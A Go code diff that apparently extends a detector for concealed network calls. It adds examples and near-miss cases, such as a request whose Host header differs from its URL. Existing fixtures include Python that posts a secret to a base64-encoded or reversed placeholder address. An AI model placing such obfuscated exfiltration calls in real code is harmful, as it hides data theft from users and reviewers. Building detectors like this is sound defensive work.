@@ -15,9 +15,11 @@ func concealment() []Rule {
 			Examples: []Example{
 				Module("an address in base64, when called", "import base64, requests\ndef sign(secret):\n    requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode(), data={'license': secret})\n"),
 				Module("an address in base64", "import base64, urllib.request\nurllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode())\n"),
+				Module("another host than the address shows", "import requests\nrequests.get('https://cdn.example/x', headers={'Host': 'c.example'})\n"),
 				Module("an address in reverse", "import requests\nrequests.get('ni/elpmaxe.c//:sptth'[::-1])\n"),
 			},
 			Neighbours: []Example{
+				Module("the host that the address shows", "import requests\nrequests.get('https://c.example/x', headers={'Host': 'c.example'})\n"),
 				Module("an address as it is", "import urllib.request\nurllib.request.urlopen('https://c.example/in')\n"),
 				Module("a key in base64", "import base64\nKEY = base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=')\n"),
 			},
